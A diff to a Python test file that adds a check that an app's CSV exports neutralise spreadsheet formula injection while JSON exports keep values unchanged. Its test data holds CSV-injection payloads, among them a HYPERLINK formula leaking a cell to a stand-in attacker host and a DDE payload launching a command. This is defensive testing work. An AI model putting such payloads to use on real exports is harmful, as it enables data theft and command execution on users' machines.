@@ -36,7 +36,7 @@ def http(app):
 
 
 def _csv(response) -> list[dict]:
-    return list(csv.DictReader(io.StringIO(response.text)))
+    return list(csv.DictReader(io.StringIO(response.text, newline="")))
 
 
 def test_offers_csv_and_json_hold_the_published_offers(world, http):
@@ -88,3 +88,28 @@ def test_no_export_holds_anything_private(world, http, name):
 def test_anything_else_is_not_found(world, http, name):
     response = http.get(f"/exports/{name}")
     assert response.status_code == 404
+
+
+FORMULAS = ['=HYPERLINK("http://attacker.example/?leak="&A2,"Click")', "+1+cmd|' /C calc'!A0",
+            "-2+3", "@SUM(A1:A9)", "\tTabbed =1+1", "\rReturned"]
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_a_cell_that_would_start_a_formula_is_written_as_text_in_csv_and_unchanged_in_json(
+        world, http, db_session, formula):
+    """OWASP's rule against CSV injection: a quote before the cell, so a spreadsheet shows it."""
+    offer = world.offers["norad_pub"]
+    offer.title, offer.description = formula, formula
+    request = world.requests["gha_nhri"]
+    request.title = formula
+    db_session.add_all([offer, request])
+    db_session.flush()
+    rows = {r["id"]: r for r in _csv(http.get("/exports/offers.csv"))}
+    row = rows[encode_id("Offer", offer.id)]
+    assert row["title"] == row["description"] == "'" + formula
+    assert row["budget"] == "500000"  # numbers stay numbers
+    [decision] = _csv(http.get("/exports/decisions.csv"))
+    assert decision["request_title"] == "'" + formula
+    titles = {r["title"] for r in http.get("/exports/offers.json").json()["rows"]}
+    assert formula in titles
+    assert http.get("/exports/decisions.json").json()["rows"][0]["request_title"] == formula
